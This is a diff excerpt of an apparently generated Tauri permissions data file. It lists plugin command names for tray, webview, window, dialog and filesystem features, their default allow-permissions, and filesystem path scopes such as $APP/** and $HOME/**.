-      c: [
-        "get_by_id",
-        "new",
-        "remove_by_id",
-        "set_icon",
-        "set_icon_as_template",
-        "set_menu",
-        "set_show_menu_on_left_click",
-        "set_temp_dir_path",
-        "set_title",
-        "set_tooltip",
-        "set_visible"
-      ],
-      def: [
-        "allow-new",
-        "allow-get-by-id",
-        "allow-remove-by-id",
-        "allow-set-icon",
-        "allow-set-menu",
-        "allow-set-tooltip",
-        "allow-set-title",
-        "allow-set-visible",
-        "allow-set-temp-dir-path",
-        "allow-set-icon-as-template",
-        "allow-set-show-menu-on-left-click"
-      ]
-    },
-    {
-      c: [
-        "get_by_id",
-        "new",
-        "remove_by_id",
-        "set_icon",
-        "set_icon_as_template",
-        "set_icon_with_as_template",
-        "set_menu",
-        "set_show_menu_on_left_click",
-        "set_temp_dir_path",
-        "set_title",
-        "set_tooltip",
-        "set_visible"
-      ],
-      def: [
-        "allow-new",
-        "allow-get-by-id",
-        "allow-remove-by-id",
-        "allow-set-icon",
-        "allow-set-menu",
-        "allow-set-tooltip",
-        "allow-set-title",
-        "allow-set-visible",
-        "allow-set-temp-dir-path",
-        "allow-set-icon-as-template",
-        "allow-set-icon-with-as-template",
-        "allow-set-show-menu-on-left-click"
-      ]
-    },
-    {
-      c: [
-        "create_webview",
-        "create_webview_window",
-        "internal_toggle_devtools",
-        "print",
-        "reparent",
-        "set_webview_focus",
-        "set_webview_position",
-        "set_webview_size",
-        "set_webview_zoom",
-        "webview_close",
-        "webview_position",
-        "webview_size"
-      ],
-      def: ["allow-webview-position", "allow-webview-size", "allow-internal-toggle-devtools"]
-    },
-    {
-      c: [
-        "create_webview",
-        "create_webview_window",
-        "get_all_webviews",
-        "internal_toggle_devtools",
-        "print",
-        "reparent",
-        "set_webview_focus",
-        "set_webview_position",
-        "set_webview_size",
-        "set_webview_zoom",
-        "webview_close",
-        "webview_position",
-        "webview_size"
-      ],
-      def: [
-        "allow-get-all-webviews",
-        "allow-webview-position",
-        "allow-webview-size",
-        "allow-internal-toggle-devtools"
-      ]
-    },
-    {
-      c: [
-        "clear_all_browsing_data",
-        "create_webview",
-        "create_webview_window",
-        "get_all_webviews",
-        "internal_toggle_devtools",
-        "print",
-        "reparent",
-        "set_webview_focus",
-        "set_webview_position",
-        "set_webview_size",
-        "set_webview_zoom",
-        "webview_close",
-        "webview_hide",
-        "webview_position",
-        "webview_show",
-        "webview_size"
-      ],
-      def: [
-        "allow-get-all-webviews",
-        "allow-webview-position",
-        "allow-webview-size",
-        "allow-internal-toggle-devtools"
-      ]
-    },
-    {
-      c: [
-        "clear_all_browsing_data",
-        "create_webview",
-        "create_webview_window",
-        "get_all_webviews",
-        "internal_toggle_devtools",
-        "print",
-        "reparent",
-        "set_webview_background_color",
-        "set_webview_focus",
-        "set_webview_position",
-        "set_webview_size",
-        "set_webview_zoom",
-        "webview_close",
-        "webview_hide",
-        "webview_position",
-        "webview_show",
-        "webview_size"
-      ],
-      def: [
-        "allow-get-all-webviews",
-        "allow-webview-position",
-        "allow-webview-size",
-        "allow-internal-toggle-devtools"
-      ]
-    },
-    {
-      c: [
-        "clear_all_browsing_data",
-        "create_webview",
-        "create_webview_window",
-        "get_all_webviews",
-        "internal_toggle_devtools",
-        "print",
-        "reparent",
-        "set_webview_auto_resize",
-        "set_webview_background_color",
-        "set_webview_focus",
-        "set_webview_position",
-        "set_webview_size",
-        "set_webview_zoom",
-        "webview_close",
-        "webview_hide",
-        "webview_position",
-        "webview_show",
-        "webview_size"
-      ],
-      def: [
-        "allow-get-all-webviews",
-        "allow-webview-position",
-        "allow-webview-size",
-        "allow-internal-toggle-devtools"
-      ]
-    },
-    {
-      c: [
-        "available_monitors",
-        "center",
-        "close",
-        "create",
-        "current_monitor",
-        "cursor_position",
-        "destroy",
-        "hide",
-        "inner_position",
-        "inner_size",
-        "internal_toggle_maximize",
-        "is_closable",
-        "is_decorated",
-        "is_focused",
-        "is_fullscreen",
-        "is_maximizable",
-        "is_maximized",
-        "is_minimizable",
-        "is_minimized",
-        "is_resizable",
-        "is_visible",
-        "maximize",
-        "minimize",
-        "monitor_from_point",
-        "outer_position",
-        "outer_size",
-        "primary_monitor",
-        "request_user_attention",
-        "scale_factor",
-        "set_always_on_bottom",
-        "set_always_on_top",
-        "set_closable",
-        "set_content_protected",
-        "set_cursor_grab",
-        "set_cursor_icon",
-        "set_cursor_position",
-        "set_cursor_visible",
-        "set_decorations",
-        "set_effects",
-        "set_focus",
-        "set_fullscreen",
-        "set_icon",
-        "set_ignore_cursor_events",
-        "set_max_size",
-        "set_maximizable",
-        "set_min_size",
-        "set_minimizable",
-        "set_position",
-        "set_progress_bar",
-        "set_resizable",
-        "set_shadow",
-        "set_size",
-        "set_size_constraints",
-        "set_skip_taskbar",
-        "set_title",
-        "set_title_bar_style",
-        "set_visible_on_all_workspaces",
-        "show",
-        "start_dragging",
-        "start_resize_dragging",
-        "theme",
-        "title",
-        "toggle_maximize",
-        "unmaximize",
-        "unminimize"
-      ],
-      def: [
-        "allow-scale-factor",
-        "allow-inner-position",
-        "allow-outer-position",
-        "allow-inner-size",
-        "allow-outer-size",
-        "allow-is-fullscreen",
-        "allow-is-minimized",
-        "allow-is-maximized",
-        "allow-is-focused",
-        "allow-is-decorated",
-        "allow-is-resizable",
-        "allow-is-maximizable",
-        "allow-is-minimizable",
-        "allow-is-closable",
-        "allow-is-visible",
-        "allow-title",
-        "allow-current-monitor",
-        "allow-primary-monitor",
-        "allow-monitor-from-point",
-        "allow-available-monitors",
-        "allow-cursor-position",
-        "allow-theme",
-        "allow-internal-toggle-maximize"
-      ]
-    },
-    {
-      c: [
-        "available_monitors",
-        "center",
-        "close",
-        "create",
-        "current_monitor",
-        "cursor_position",
-        "destroy",
-        "get_all_windows",
-        "hide",
-        "inner_position",
-        "inner_size",
-        "internal_toggle_maximize",
-        "is_closable",
-        "is_decorated",
-        "is_focused",
-        "is_fullscreen",
-        "is_maximizable",
-        "is_maximized",
-        "is_minimizable",
-        "is_minimized",
-        "is_resizable",
-        "is_visible",
-        "maximize",
-        "minimize",
-        "monitor_from_point",
-        "outer_position",
-        "outer_size",
-        "primary_monitor",
-        "request_user_attention",
-        "scale_factor",
-        "set_always_on_bottom",
-        "set_always_on_top",
-        "set_closable",
-        "set_content_protected",
-        "set_cursor_grab",
-        "set_cursor_icon",
-        "set_cursor_position",
-        "set_cursor_visible",
-        "set_decorations",
-        "set_effects",
-        "set_focus",
-        "set_fullscreen",
-        "set_icon",
-        "set_ignore_cursor_events",
-        "set_max_size",
-        "set_maximizable",
-        "set_min_size",
-        "set_minimizable",
-        "set_position",
-        "set_progress_bar",
-        "set_resizable",
-        "set_shadow",
-        "set_size",
-        "set_size_constraints",
-        "set_skip_taskbar",
-        "set_title",
-        "set_title_bar_style",
-        "set_visible_on_all_workspaces",
-        "show",
-        "start_dragging",
-        "start_resize_dragging",
-        "theme",
-        "title",
-        "toggle_maximize",
-        "unmaximize",
-        "unminimize"
-      ],
-      def: [
-        "allow-get-all-windows",
-        "allow-scale-factor",
-        "allow-inner-position",
-        "allow-outer-position",
-        "allow-inner-size",
-        "allow-outer-size",
-        "allow-is-fullscreen",
-        "allow-is-minimized",
-        "allow-is-maximized",
-        "allow-is-focused",
-        "allow-is-decorated",
-        "allow-is-resizable",
-        "allow-is-maximizable",
-        "allow-is-minimizable",
-        "allow-is-closable",
-        "allow-is-visible",
-        "allow-title",
-        "allow-current-monitor",
-        "allow-primary-monitor",
-        "allow-monitor-from-point",
-        "allow-available-monitors",
-        "allow-cursor-position",
-        "allow-theme",
-        "allow-internal-toggle-maximize"
-      ]
-    },
-    {
-      c: [
-        "available_monitors",
-        "center",
-        "close",
-        "create",
-        "current_monitor",
-        "cursor_position",
-        "destroy",
-        "get_all_windows",
-        "hide",
-        "inner_position",
-        "inner_size",
-        "internal_toggle_maximize",
-        "is_closable",
-        "is_decorated",
-        "is_enabled",
-        "is_focused",
-        "is_fullscreen",
-        "is_maximizable",
-        "is_maximized",
-        "is_minimizable",
-        "is_minimized",
-        "is_resizable",
-        "is_visible",
-        "maximize",
-        "minimize",
-        "monitor_from_point",
-        "outer_position",
-        "outer_size",
-        "primary_monitor",
-        "request_user_attention",
-        "scale_factor",
-        "set_always_on_bottom",
-        "set_always_on_top",
-        "set_closable",
-        "set_content_protected",
-        "set_cursor_grab",
-        "set_cursor_icon",
-        "set_cursor_position",
-        "set_cursor_visible",
-        "set_decorations",
-        "set_effects",
-        "set_enabled",
-        "set_focus",
-        "set_fullscreen",
-        "set_icon",
-        "set_ignore_cursor_events",
-        "set_max_size",
-        "set_maximizable",
-        "set_min_size",
-        "set_minimizable",
-        "set_position",
-        "set_progress_bar",
-        "set_resizable",
-        "set_shadow",
-        "set_size",
-        "set_size_constraints",
-        "set_skip_taskbar",
-        "set_theme",
-        "set_title",
-        "set_title_bar_style",
-        "set_visible_on_all_workspaces",
-        "show",
-        "start_dragging",
-        "start_resize_dragging",
-        "theme",
-        "title",
-        "toggle_maximize",
-        "unmaximize",
-        "unminimize"
-      ],
-      def: [
-        "allow-get-all-windows",
-        "allow-scale-factor",
-        "allow-inner-position",
-        "allow-outer-position",
-        "allow-inner-size",
-        "allow-outer-size",
-        "allow-is-fullscreen",
-        "allow-is-minimized",
-        "allow-is-maximized",
-        "allow-is-focused",
-        "allow-is-decorated",
-        "allow-is-resizable",
-        "allow-is-maximizable",
-        "allow-is-minimizable",
-        "allow-is-closable",
-        "allow-is-visible",
-        "allow-is-enabled",
-        "allow-title",
-        "allow-current-monitor",
-        "allow-primary-monitor",
-        "allow-monitor-from-point",
-        "allow-available-monitors",
-        "allow-cursor-position",
-        "allow-theme",
-        "allow-internal-toggle-maximize"
-      ]
-    },
-    {
-      c: [
-        "available_monitors",
-        "center",
-        "close",
-        "create",
-        "current_monitor",
-        "cursor_position",
-        "destroy",
-        "get_all_windows",
-        "hide",
-        "inner_position",
-        "inner_size",
-        "internal_toggle_maximize",
-        "is_closable",
-        "is_decorated",
-        "is_enabled",
-        "is_focused",
-        "is_fullscreen",
-        "is_maximizable",
-        "is_maximized",
-        "is_minimizable",
-        "is_minimized",
-        "is_resizable",
-        "is_visible",
-        "maximize",
-        "minimize",
-        "monitor_from_point",
-        "outer_position",
-        "outer_size",
-        "primary_monitor",
-        "request_user_attention",
-        "scale_factor",
-        "set_always_on_bottom",
-        "set_always_on_top",
-        "set_background_color",
-        "set_badge_count",
-        "set_badge_label",
-        "set_closable",
-        "set_content_protected",
-        "set_cursor_grab",
-        "set_cursor_icon",
-        "set_cursor_position",
-        "set_cursor_visible",
-        "set_decorations",
-        "set_effects",
-        "set_enabled",
-        "set_focus",
-        "set_fullscreen",
-        "set_icon",
-        "set_ignore_cursor_events",
-        "set_max_size",
-        "set_maximizable",
-        "set_min_size",
-        "set_minimizable",
-        "set_overlay_icon",
-        "set_position",
-        "set_progress_bar",
-        "set_resizable",
-        "set_shadow",
-        "set_size",
-        "set_size_constraints",
-        "set_skip_taskbar",
-        "set_theme",
-        "set_title",
-        "set_title_bar_style",
-        "set_visible_on_all_workspaces",
-        "show",
-        "start_dragging",
-        "start_resize_dragging",
-        "theme",
-        "title",
-        "toggle_maximize",
-        "unmaximize",
-        "unminimize"
-      ],
-      def: [
-        "allow-get-all-windows",
-        "allow-scale-factor",
-        "allow-inner-position",
-        "allow-outer-position",
-        "allow-inner-size",
-        "allow-outer-size",
-        "allow-is-fullscreen",
-        "allow-is-minimized",
-        "allow-is-maximized",
-        "allow-is-focused",
-        "allow-is-decorated",
-        "allow-is-resizable",
-        "allow-is-maximizable",
-        "allow-is-minimizable",
-        "allow-is-closable",
-        "allow-is-visible",
-        "allow-is-enabled",
-        "allow-title",
-        "allow-current-monitor",
-        "allow-primary-monitor",
-        "allow-monitor-from-point",
-        "allow-available-monitors",
-        "allow-cursor-position",
-        "allow-theme",
-        "allow-internal-toggle-maximize"
-      ]
-    },
-    {
-      c: [
-        "available_monitors",
-        "center",
-        "close",
-        "create",
-        "current_monitor",
-        "cursor_position",
-        "destroy",
-        "get_all_windows",
-        "hide",
-        "inner_position",
-        "inner_size",
-        "internal_toggle_maximize",
-        "is_always_on_top",
-        "is_closable",
-        "is_decorated",
-        "is_enabled",
-        "is_focused",
-        "is_fullscreen",
-        "is_maximizable",
-        "is_maximized",
-        "is_minimizable",
-        "is_minimized",
-        "is_resizable",
-        "is_visible",
-        "maximize",
-        "minimize",
-        "monitor_from_point",
-        "outer_position",
-        "outer_size",
-        "primary_monitor",
-        "request_user_attention",
-        "scale_factor",
-        "set_always_on_bottom",
-        "set_always_on_top",
-        "set_background_color",
-        "set_badge_count",
-        "set_badge_label",
-        "set_closable",
-        "set_content_protected",
-        "set_cursor_grab",
-        "set_cursor_icon",
-        "set_cursor_position",
-        "set_cursor_visible",
-        "set_decorations",
-        "set_effects",
-        "set_enabled",
-        "set_focus",
-        "set_fullscreen",
-        "set_icon",
-        "set_ignore_cursor_events",
-        "set_max_size",
-        "set_maximizable",
-        "set_min_size",
-        "set_minimizable",
-        "set_overlay_icon",
-        "set_position",
-        "set_progress_bar",
-        "set_resizable",
-        "set_shadow",
-        "set_size",
-        "set_size_constraints",
-        "set_skip_taskbar",
-        "set_theme",
-        "set_title",
-        "set_title_bar_style",
-        "set_visible_on_all_workspaces",
-        "show",
-        "start_dragging",
-        "start_resize_dragging",
-        "theme",
-        "title",
-        "toggle_maximize",
-        "unmaximize",
-        "unminimize"
-      ],
-      def: [
-        "allow-get-all-windows",
-        "allow-scale-factor",
-        "allow-inner-position",
-        "allow-outer-position",
-        "allow-inner-size",
-        "allow-outer-size",
-        "allow-is-fullscreen",
-        "allow-is-minimized",
-        "allow-is-maximized",
-        "allow-is-focused",
-        "allow-is-decorated",
-        "allow-is-resizable",
-        "allow-is-maximizable",
-        "allow-is-minimizable",
-        "allow-is-closable",
-        "allow-is-visible",
-        "allow-is-enabled",
-        "allow-title",
-        "allow-current-monitor",
-        "allow-primary-monitor",
-        "allow-monitor-from-point",
-        "allow-available-monitors",
-        "allow-cursor-position",
-        "allow-theme",
-        "allow-is-always-on-top",
-        "allow-internal-toggle-maximize"
-      ]
-    },
-    {
-      c: [
-        "available_monitors",
-        "center",
-        "close",
-        "create",
-        "current_monitor",
-        "cursor_position",
-        "destroy",
-        "get_all_windows",
-        "hide",
-        "inner_position",
-        "inner_size",
-        "internal_toggle_maximize",
-        "is_always_on_top",
-        "is_closable",
-        "is_decorated",
-        "is_enabled",
-        "is_focused",
-        "is_fullscreen",
-        "is_maximizable",
-        "is_maximized",
-        "is_minimizable",
-        "is_minimized",
-        "is_resizable",
-        "is_visible",
-        "maximize",
-        "minimize",
-        "monitor_from_point",
-        "outer_position",
-        "outer_size",
-        "primary_monitor",
-        "request_user_attention",
-        "scale_factor",
-        "set_always_on_bottom",
-        "set_always_on_top",
-        "set_background_color",
-        "set_badge_count",
-        "set_badge_label",
-        "set_closable",
-        "set_content_protected",
-        "set_cursor_grab",
-        "set_cursor_icon",
-        "set_cursor_position",
-        "set_cursor_visible",
-        "set_decorations",
-        "set_effects",
-        "set_enabled",
-        "set_focus",
-        "set_focusable",
-        "set_fullscreen",
-        "set_icon",
-        "set_ignore_cursor_events",
-        "set_max_size",
-        "set_maximizable",
-        "set_min_size",
-        "set_minimizable",
-        "set_overlay_icon",
-        "set_position",
-        "set_progress_bar",
-        "set_resizable",
-        "set_shadow",
-        "set_simple_fullscreen",
-        "set_size",
-        "set_size_constraints",
-        "set_skip_taskbar",
-        "set_theme",
-        "set_title",
-        "set_title_bar_style",
-        "set_visible_on_all_workspaces",
-        "show",
-        "start_dragging",
-        "start_resize_dragging",
-        "theme",
-        "title",
-        "toggle_maximize",
-        "unmaximize",
-        "unminimize"
-      ],
-      def: [
-        "allow-get-all-windows",
-        "allow-scale-factor",
-        "allow-inner-position",
-        "allow-outer-position",
-        "allow-inner-size",
-        "allow-outer-size",
-        "allow-is-fullscreen",
-        "allow-is-minimized",
-        "allow-is-maximized",
-        "allow-is-focused",
-        "allow-is-decorated",
-        "allow-is-resizable",
-        "allow-is-maximizable",
-        "allow-is-minimizable",
-        "allow-is-closable",
-        "allow-is-visible",
-        "allow-is-enabled",
-        "allow-title",
-        "allow-current-monitor",
-        "allow-primary-monitor",
-        "allow-monitor-from-point",
-        "allow-available-monitors",
-        "allow-cursor-position",
-        "allow-theme",
-        "allow-is-always-on-top",
-        "allow-internal-toggle-maximize"
-      ]
-    },
-    {
-      c: [
-        "activity_name",
-        "available_monitors",
-        "center",
-        "close",
-        "create",
-        "current_monitor",
-        "cursor_position",
-        "destroy",
-        "get_all_windows",
-        "hide",
-        "inner_position",
-        "inner_size",
-        "internal_toggle_maximize",
-        "is_always_on_top",
-        "is_closable",
-        "is_decorated",
-        "is_enabled",
-        "is_focused",
-        "is_fullscreen",
-        "is_maximizable",
-        "is_maximized",
-        "is_minimizable",
-        "is_minimized",
-        "is_resizable",
-        "is_visible",
-        "maximize",
-        "minimize",
-        "monitor_from_point",
-        "outer_position",
-        "outer_size",
-        "primary_monitor",
-        "request_user_attention",
-        "scale_factor",
-        "scene_identifier",
-        "set_always_on_bottom",
-        "set_always_on_top",
-        "set_background_color",
-        "set_badge_count",
-        "set_badge_label",
-        "set_closable",
-        "set_content_protected",
-        "set_cursor_grab",
-        "set_cursor_icon",
-        "set_cursor_position",
-        "set_cursor_visible",
-        "set_decorations",
-        "set_effects",
-        "set_enabled",
-        "set_focus",
-        "set_focusable",
-        "set_fullscreen",
-        "set_icon",
-        "set_ignore_cursor_events",
-        "set_max_size",
-        "set_maximizable",
-        "set_min_size",
-        "set_minimizable",
-        "set_overlay_icon",
-        "set_position",
-        "set_progress_bar",
-        "set_resizable",
-        "set_shadow",
-        "set_simple_fullscreen",
-        "set_size",
-        "set_size_constraints",
-        "set_skip_taskbar",
-        "set_theme",
-        "set_title",
-        "set_title_bar_style",
-        "set_visible_on_all_workspaces",
-        "show",
-        "start_dragging",
-        "start_resize_dragging",
-        "theme",
-        "title",
-        "toggle_maximize",
-        "unmaximize",
-        "unminimize"
-      ],
-      def: [
-        "allow-get-all-windows",
-        "allow-scale-factor",
-        "allow-inner-position",
-        "allow-outer-position",
-        "allow-inner-size",
-        "allow-outer-size",
-        "allow-is-fullscreen",
-        "allow-is-minimized",
-        "allow-is-maximized",
-        "allow-is-focused",
-        "allow-is-decorated",
-        "allow-is-resizable",
-        "allow-is-maximizable",
-        "allow-is-minimizable",
-        "allow-is-closable",
-        "allow-is-visible",
-        "allow-is-enabled",
-        "allow-title",
-        "allow-current-monitor",
-        "allow-primary-monitor",
-        "allow-monitor-from-point",
-        "allow-available-monitors",
-        "allow-cursor-position",
-        "allow-theme",
-        "allow-is-always-on-top",
-        "allow-activity-name",
-        "allow-scene-identifier",
-        "allow-internal-toggle-maximize"
-      ]
-    },
-    { c: ["get_current"], def: ["allow-get-current"] },
-    { c: ["get_current", "is_registered", "register", "unregister"], def: ["allow-get-current"] },
-    { c: ["ask", "confirm", "message", "open", "save"] },
-    {
-      c: ["ask", "confirm", "message", "open", "save"],
-      def: ["allow-ask", "allow-confirm", "allow-message", "allow-save", "allow-open"]
-    },
-    {
-      c: ["message", "open", "save"],
-      def: ["allow-message", "allow-save", "allow-open"],
-      p: {
-        "allow-ask": { a: ["message"] },
-        "allow-confirm": { a: ["message"] },
-        "deny-ask": { d: ["message"] },
-        "deny-confirm": { d: ["message"] }
+  app: [
+    [
+      ["2.0.0-beta.0", "2.0.0-beta.1", "2.0.0-beta.2", "2.0.0-beta.3", "2.0.0-beta.4", "2.0.0-beta.5", "2.0.0-beta.6", "2.0.0-beta.7", "2.0.0-beta.8", "2.0.0-beta.9", "2.0.0-beta.10", "2.0.0-beta.11", "2.0.0-beta.12", "2.0.0-beta.13", "2.0.0-beta.14", "2.0.0-beta.15", "2.0.0-beta.16", "2.0.0-beta.17", "2.0.0-beta.18", "2.0.0-beta.19", "2.0.0-beta.20", "2.0.0-beta.21", "2.0.0-beta.22"],
+      {
+        c: ["app_hide", "app_show", "name", "tauri_version", "version"],
+        def: ["allow-version", "allow-name", "allow-tauri-version"]
       }
-    },
-    {
-      c: [
-        "copy_file",
-        "create",
-        "exists",
-        "fstat",
-        "ftruncate",
-        "lstat",
-        "mkdir",
-        "open",
-        "read",
-        "read_dir",
-        "read_file",
-        "read_text_file",
-        "read_text_file_lines",
-        "read_text_file_lines_next",
-        "remove",
-        "rename",
-        "seek",
-        "stat",
-        "truncate",
-        "unwatch",
-        "watch",
-        "write",
-        "write_file",
-        "write_text_file"
-      ],
-      def: ["read-all", "scope-app-recursive", "deny-default"],
-      p: {
-        "deny-webview-data-linux": {},
-        "deny-webview-data-windows": {},
-        "read-all": {
-          a: [
-            "read_dir",
-            "read_file",
-            "read",
-            "open",
-            "read_text_file",
-            "read_text_file_lines",
-            "read_text_file_lines_next",
-            "seek",
-            "stat",
-            "lstat",
-            "fstat",
-            "exists",
-            "watch",
-            "unwatch"
-          ]
-        },
-        "read-dirs": { a: ["read_dir", "stat", "lstat", "fstat", "exists"] },
-        "read-files": {
-          a: [
-            "read_file",
-            "read",
-            "open",
-            "read_text_file",
-            "read_text_file_lines",
-            "read_text_file_lines_next",
-            "seek",
-            "stat",
-            "lstat",
-            "fstat",
-            "exists"
-          ]
-        },
-        "read-meta": { a: ["read_dir", "stat", "lstat", "fstat", "exists"] },
-        scope: {},
-        "scope-app": { sa: [{ path: "$APP/*" }] },
-        "scope-app-index": { sa: [{ path: "$APP/" }] },
-        "scope-app-recursive": { sa: [{ path: "$APP/**" }] },
-        "scope-appcache": { sa: [{ path: "$APPCACHE/*" }] },
-        "scope-appcache-index": { sa: [{ path: "$APPCACHE/" }] },
-        "scope-appcache-recursive": { sa: [{ path: "$APPCACHE/**" }] },
-        "scope-appconfig": { sa: [{ path: "$APPCONFIG/*" }] },
-        "scope-appconfig-index": { sa: [{ path: "$APPCONFIG/" }] },
-        "scope-appconfig-recursive": { sa: [{ path: "$APPCONFIG/**" }] },
-        "scope-appdata": { sa: [{ path: "$APPDATA/*" }] },
-        "scope-appdata-index": { sa: [{ path: "$APPDATA/" }] },
-        "scope-appdata-recursive": { sa: [{ path: "$APPDATA/**" }] },
-        "scope-applocaldata": { sa: [{ path: "$APPLOCALDATA/*" }] },
-        "scope-applocaldata-index": { sa: [{ path: "$APPLOCALDATA/" }] },
-        "scope-applocaldata-recursive": { sa: [{ path: "$APPLOCALDATA/**" }] },
-        "scope-applog": { sa: [{ path: "$APPLOG/*" }] },
-        "scope-applog-index": { sa: [{ path: "$APPLOG/" }] },
-        "scope-applog-recursive": { sa: [{ path: "$APPLOG/**" }] },
-        "scope-audio": { sa: [{ path: "$AUDIO/*" }] },
-        "scope-audio-index": { sa: [{ path: "$AUDIO/" }] },
-        "scope-audio-recursive": { sa: [{ path: "$AUDIO/**" }] },
-        "scope-cache": { sa: [{ path: "$CACHE/*" }] },
-        "scope-cache-index": { sa: [{ path: "$CACHE/" }] },
-        "scope-cache-recursive": { sa: [{ path: "$CACHE/**" }] },
-        "scope-config": { sa: [{ path: "$CONFIG/*" }] },
-        "scope-config-index": { sa: [{ path: "$CONFIG/" }] },
-        "scope-config-recursive": { sa: [{ path: "$CONFIG/**" }] },
-        "scope-data": { sa: [{ path: "$DATA/*" }] },
-        "scope-data-index": { sa: [{ path: "$DATA/" }] },
-        "scope-data-recursive": { sa: [{ path: "$DATA/**" }] },
-        "scope-desktop": { sa: [{ path: "$DESKTOP/*" }] },
-        "scope-desktop-index": { sa: [{ path: "$DESKTOP/" }] },
-        "scope-desktop-recursive": { sa: [{ path: "$DESKTOP/**" }] },
-        "scope-document": { sa: [{ path: "$DOCUMENT/*" }] },
-        "scope-document-index": { sa: [{ path: "$DOCUMENT/" }] },
-        "scope-document-recursive": { sa: [{ path: "$DOCUMENT/**" }] },
-        "scope-download": { sa: [{ path: "$DOWNLOAD/*" }] },
-        "scope-download-index": { sa: [{ path: "$DOWNLOAD/" }] },
-        "scope-download-recursive": { sa: [{ path: "$DOWNLOAD/**" }] },
-        "scope-exe": { sa: [{ path: "$EXE/*" }] },
-        "scope-exe-index": { sa: [{ path: "$EXE/" }] },
-        "scope-exe-recursive": { sa: [{ path: "$EXE/**" }] },
-        "scope-font": { sa: [{ path: "$FONT/*" }] },
-        "scope-font-index": { sa: [{ path: "$FONT/" }] },
-        "scope-font-recursive": { sa: [{ path: "$FONT/**" }] },
-        "scope-home": { sa: [{ path: "$HOME/*" }] },
-        "scope-home-index": { sa: [{ path: "$HOME/" }] },
-        "scope-home-recursive": { sa: [{ path: "$HOME/**" }] },
-        "scope-localdata": { sa: [{ path: "$LOCALDATA/*" }] },
-        "scope-localdata-index": { sa: [{ path: "$LOCALDATA/" }] },
-        "scope-localdata-recursive": { sa: [{ path: "$LOCALDATA/**" }] },
-        "scope-log": { sa: [{ path: "$LOG/*" }] },
-        "scope-log-index": { sa: [{ path: "$LOG/" }] },
-        "scope-log-recursive": { sa: [{ path: "$LOG/**" }] },
-        "scope-picture": { sa: [{ path: "$PICTURE/*" }] },
-        "scope-picture-index": { sa: [{ path: "$PICTURE/" }] },
-        "scope-picture-recursive": { sa: [{ path: "$PICTURE/**" }] },
-        "scope-public": { sa: [{ path: "$PUBLIC/*" }] },
-        "scope-public-index": { sa: [{ path: "$PUBLIC/" }] },
-        "scope-public-recursive": { sa: [{ path: "$PUBLIC/**" }] },
-        "scope-resource": { sa: [{ path: "$RESOURCE/*" }] },
-        "scope-resource-index": { sa: [{ path: "$RESOURCE/" }] },
-        "scope-resource-recursive": { sa: [{ path: "$RESOURCE/**" }] },
-        "scope-runtime": { sa: [{ path: "$RUNTIME/*" }] },
-        "scope-runtime-index": { sa: [{ path: "$RUNTIME/" }] },
-        "scope-runtime-recursive": { sa: [{ path: "$RUNTIME/**" }] },
-        "scope-temp": { sa: [{ path: "$TEMP/*" }] },
-        "scope-temp-index": { sa: [{ path: "$TEMP/" }] },
-        "scope-temp-recursive": { sa: [{ path: "$TEMP/**" }] },
-        "scope-template": { sa: [{ path: "$TEMPLATE/*" }] },
-        "scope-template-index": { sa: [{ path: "$TEMPLATE/" }] },
-        "scope-template-recursive": { sa: [{ path: "$TEMPLATE/**" }] },
-        "scope-video": { sa: [{ path: "$VIDEO/*" }] },
-        "scope-video-index": { sa: [{ path: "$VIDEO/" }] },
-        "scope-video-recursive": { sa: [{ path: "$VIDEO/**" }] },
-        "write-all": {
-          a: [
-            "mkdir",
-            "create",
-            "copy_file",
-            "remove",
-            "rename",
-            "truncate",
-            "ftruncate",
-            "write",
-            "write_file",
-            "write_text_file"
-          ]
-        },
-        "write-files": {
-          a: [
-            "create",
-            "copy_file",
-            "remove",
-            "rename",
-            "truncate",
-            "ftruncate",
-            "write",
-            "write_file",
-            "write_text_file"
-          ]
-        }
-      },
-      s: {
-        "allow-app-meta": ["read-meta", "scope-app-index"],
-        "allow-app-meta-recursive": ["read-meta", "scope-app-recursive"],
-        "allow-app-read": ["read-all", "scope-app"],
-        "allow-app-read-recursive": ["read-all", "scope-app-recursive"],
-        "allow-app-write": ["write-all", "scope-app"],
-        "allow-app-write-recursive": ["write-all", "scope-app-recursive"],
-        "allow-appcache-meta": ["read-meta", "scope-appcache-index"],
-        "allow-appcache-meta-recursive": ["read-meta", "scope-appcache-recursive"],
-        "allow-appcache-read": ["read-all", "scope-appcache"],
-        "allow-appcache-read-recursive": ["read-all", "scope-appcache-recursive"],
-        "allow-appcache-write": ["write-all", "scope-appcache"],
-        "allow-appcache-write-recursive": ["write-all", "scope-appcache-recursive"],
-        "allow-appconfig-meta": ["read-meta", "scope-appconfig-index"],
-        "allow-appconfig-meta-recursive": ["read-meta", "scope-appconfig-recursive"],
-        "allow-appconfig-read": ["read-all", "scope-appconfig"],
-        "allow-appconfig-read-recursive": ["read-all", "scope-appconfig-recursive"],
-        "allow-appconfig-write": ["write-all", "scope-appconfig"],
-        "allow-appconfig-write-recursive": ["write-all", "scope-appconfig-recursive"],
-        "allow-appdata-meta": ["read-meta", "scope-appdata-index"],
-        "allow-appdata-meta-recursive": ["read-meta", "scope-appdata-recursive"],
-        "allow-appdata-read": ["read-all", "scope-appdata"],
-        "allow-appdata-read-recursive": ["read-all", "scope-appdata-recursive"],
-        "allow-appdata-write": ["write-all", "scope-appdata"],
-        "allow-appdata-write-recursive": ["write-all", "scope-appdata-recursive"],
-        "allow-applocaldata-meta": ["read-meta", "scope-applocaldata-index"],
-        "allow-applocaldata-meta-recursive": ["read-meta", "scope-applocaldata-recursive"],
-        "allow-applocaldata-read": ["read-all", "scope-applocaldata"],
-        "allow-applocaldata-read-recursive": ["read-all", "scope-applocaldata-recursive"],
-        "allow-applocaldata-write": ["write-all", "scope-applocaldata"],
-        "allow-applocaldata-write-recursive": ["write-all", "scope-applocaldata-recursive"],
-        "allow-applog-meta": ["read-meta", "scope-applog-index"],
-        "allow-applog-meta-recursive": ["read-meta", "scope-applog-recursive"],
-        "allow-applog-read": ["read-all", "scope-applog"],
-        "allow-applog-read-recursive": ["read-all", "scope-applog-recursive"],
-        "allow-applog-write": ["write-all", "scope-applog"],
-        "allow-applog-write-recursive": ["write-all", "scope-applog-recursive"],
-        "allow-audio-meta": ["read-meta", "scope-audio-index"],
-        "allow-audio-meta-recursive": ["read-meta", "scope-audio-recursive"],
-        "allow-audio-read": ["read-all", "scope-audio"],
-        "allow-audio-read-recursive": ["read-all", "scope-audio-recursive"],
-        "allow-audio-write": ["write-all", "scope-audio"],
-        "allow-audio-write-recursive": ["write-all", "scope-audio-recursive"],
-        "allow-cache-meta": ["read-meta", "scope-cache-index"],
-        "allow-cache-meta-recursive": ["read-meta", "scope-cache-recursive"],
-        "allow-cache-read": ["read-all", "scope-cache"],
